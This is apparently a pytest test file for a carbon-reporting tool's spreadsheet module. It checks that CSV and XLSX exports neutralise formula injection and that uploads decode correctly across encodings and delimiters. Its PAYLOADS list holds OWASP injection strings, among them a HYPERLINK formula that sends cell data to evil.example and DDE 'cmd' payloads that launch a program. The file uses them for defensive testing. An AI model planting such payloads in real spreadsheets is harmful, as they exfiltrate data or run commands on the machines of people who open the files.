"""parkcarbon.sheets: formula-injection neutralisation in every export, round trips, encodings and
delimiters of uploads, and the rule that no other module reads or writes CSV/XLSX by hand.

The injection payloads are OWASP's "CSV Injection" examples; the expected CSV form (a leading apostrophe)
and XLSX form (a string cell, never a formula) are the ones OWASP recommends."""

from __future__ import annotations

import ast
import io
import zipfile
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from parkcarbon import sheets
from parkcarbon.ingest.activity_sheets import read_sheet
from parkcarbon.ingest.parse import parse_csv
from parkcarbon.reports import Sheet, render_xlsx

ROOT = Path(__file__).resolve().parents[2]
SRC = ROOT / "src" / "parkcarbon"
#: OWASP CSV-injection payloads, one per trigger character.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
XML_PAYLOADS = [p.replace("\r", "\n") for p in PAYLOADS]  # XML reads a bare CR back as LF


def _xlsx_cells(data: bytes) -> list[tuple[object, str, bool]]:
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.value is not None:
                    out.append((c.value, c.data_type, bool(c.quotePrefix)))
    return out


def _no_formula_xml(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cell_gets_an_apostrophe(payload: str) -> None:
    data = sheets.write_csv([["name"], [payload]], bom=False)
    import csv

    assert list(csv.reader(io.StringIO(data.decode(), newline="")))[1] == ["'" + payload]
    assert [r for _l, r in sheets.csv_rows(data.decode())] == [["name"], [payload]]  # round trip


def test_plain_numbers_are_not_prefixed() -> None:
    data = sheets.write_csv([["a", "b", "c", "d"], ["-12.5", "+3", 1e-3, -4]], bom=False)
    assert data.decode().splitlines()[1] == "-12.5,+3,0.001,-4"


def test_xlsx_payloads_are_string_cells() -> None:
    wb = sheets.new_workbook()
    ws = wb.create_sheet("x")
    sheets.append_row(ws, ["head"])
    for p in PAYLOADS:
        sheets.append_row(ws, [p, 1.5])
    data = sheets.workbook_bytes(wb)
    _no_formula_xml(data)
    cells = {v: (t, q) for v, t, q in _xlsx_cells(data)}
    for p in XML_PAYLOADS:
        assert cells[p] == ("s", True), p
    assert cells[1.5][0] == "n"
    assert [r[1][0] for r in sheets.read_xlsx(data)[1:]] == XML_PAYLOADS  # round trip


def test_gb18030_semicolon_csv() -> None:
    text = "能源品种;数量;单位;开始日期;结束日期;供应商\r\ndiesel;2.5;t;2026-01-01;2026-01-31;中石化销售\r\n"
    rows = read_sheet(text.encode("gb18030"), filename="柴油.csv", content_type="text/csv")
    assert rows[0].cells == {
        "carrier": "diesel", "quantity": "2.5", "unit": "t", "period_start": "2026-01-01",
        "period_end": "2026-01-31", "supplier": "中石化销售",
    }  # fmt: skip


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "gb18030", "utf-8"])
def test_encodings(encoding: str) -> None:
    assert (
        sheets.decode_text("企业,年份\r\n绿源食品,2026\r\n".encode(encoding))
        == "企业,年份\r\n绿源食品,2026\r\n"
    )


def test_tab_delimited_readings() -> None:
    batch = parse_csv(b"meter_code\tts\tvalue\nM-1\t2026-01-01T00:00:00+08:00\t12.5\n", max_rows=10)
    assert batch.meter_code == ["M-1"] and batch.value == [12.5]


def test_binary_is_refused() -> None:
    with pytest.raises(sheets.SheetError):
        sheets.decode_text(b"\x00\x01\x02\xff\xfe\x00" * 20)


def test_report_workbook_neutralises() -> None:
    data = render_xlsx([Sheet(name="清单", header=["source"], rows=[[p] for p in PAYLOADS])])
    _no_formula_xml(data)
    assert {v for v, t, _q in _xlsx_cells(data) if t == "s"} >= set(XML_PAYLOADS)


def test_readings_template_csv_neutralises() -> None:
    from parkcarbon.services.intake.readings import template_csv
    from parkcarbon.services.intake.schemas import ReadingsBatch

    ts = datetime(2026, 1, 1, tzinfo=ZoneInfo("Asia/Shanghai"))
    batch = ReadingsBatch.model_validate(
        {"readings": [{"meter_code": "=1+1", "ts": ts.isoformat(), "value": 1}]}
    )
    assert template_csv(batch).splitlines()[1].startswith("'=1+1,")


def test_templates_go_through_sheets() -> None:
    from parkcarbon.ingest.activity_sheets import template_csv, template_xlsx

    assert template_csv().startswith(b"\xef\xbb\xbfcarrier,")
    _no_formula_xml(template_xlsx())


def test_no_spreadsheet_code_outside_sheets() -> None:
    """Only parkcarbon.sheets opens or writes CSV/XLSX (core's packaged reference tables excepted)."""
    banned_attrs = {"writer", "reader", "DictReader", "DictWriter", "Workbook", "load_workbook"}
    offenders = []
    for path in SRC.rglob("*.py"):
        rel = path.relative_to(SRC).as_posix()
        if rel == "sheets.py" or rel.startswith("core/"):
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and node.module in {"openpyxl", "csv"}:
                names = {a.name for a in node.names} & banned_attrs
                if names:
                    offenders.append(f"{rel}:{node.lineno} imports {names}")
            if isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names):
                offenders.append(f"{rel}:{node.lineno} imports csv")
            if (
                isinstance(node, ast.Attribute)
                and node.attr == "append"
                and isinstance(node.value, ast.Name)
                and node.value.id in {"ws", "info", "sheet"}
            ):
                offenders.append(f"{rel}:{node.lineno} {node.value.id}.append (use sheets.append_row)")
    assert not offenders, offenders
